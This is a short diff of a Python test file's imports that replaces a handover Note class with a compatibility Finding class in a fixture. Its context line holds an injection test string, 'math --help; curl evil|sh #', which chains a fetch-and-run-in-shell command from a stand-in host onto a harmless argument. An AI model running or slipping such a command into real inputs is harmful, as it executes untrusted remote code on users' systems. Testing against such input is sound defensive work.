@@ -6,15 +6,15 @@ import pytest
 from pydantic import ValidationError
 
 from lineage.artifacts import Artifact, Release, put_manifest, read_manifest
+from lineage.compatibility import Finding
 from lineage.errors import LineageError
 from tasks.gate.plan import make_plan
 from tasks.gate.refork import Refork, read_refork, request_refork
-from tasks.handover import Note
 from tests.gate.test_plan import bench, faculty  # noqa: F401 - fixtures
 from tests.support.making import take, write_record
 
 EVIL = "math --help; curl evil|sh #"
-NOTE = Note(code="other-fork", severity="refusal", subject="a", evidence="b", next_step="c")
+NOTE = Finding(code="other-fork", severity="refusal", subject="a", evidence="b", next_step="c")
 
 
 def attested(bench, faculty, package):  # noqa: F811
